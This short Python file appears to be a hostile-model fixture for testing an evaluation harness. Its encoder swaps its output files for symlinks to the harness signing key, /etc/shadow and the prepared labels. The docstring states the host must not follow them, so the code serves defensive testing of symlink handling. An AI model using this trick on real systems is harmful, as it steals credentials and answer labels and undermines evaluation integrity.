"""Replaces the embedding files it already wrote with symbolic links: the header to a path that,
resolved on the host, is the harness's signing key ($AECC_HOME/keys/signing.key, five levels up
from an embeddings split folder), the payload to the prepared labels and /etc/shadow. The host
must not follow any of them."""
import glob
import os

from aecc_hostile_base import BaseEncoder


def _swap(path, target):
    os.unlink(path)
    os.symlink(target, path)


class HostileEncoder(BaseEncoder):
    def forward(self, audio):
        for header in glob.glob("/out/**/[0-9]*.json", recursive=True):
            if os.path.islink(header):
                continue
            _swap(header, "../../../../../keys/signing.key")
            _swap(header[:-5] + ".bin", "/etc/shadow")
            labels = os.path.join(os.path.dirname(header), "labels")
            if not os.path.lexists(labels):
                os.symlink("../../../../../prepared", labels)
        return super().forward(audio)
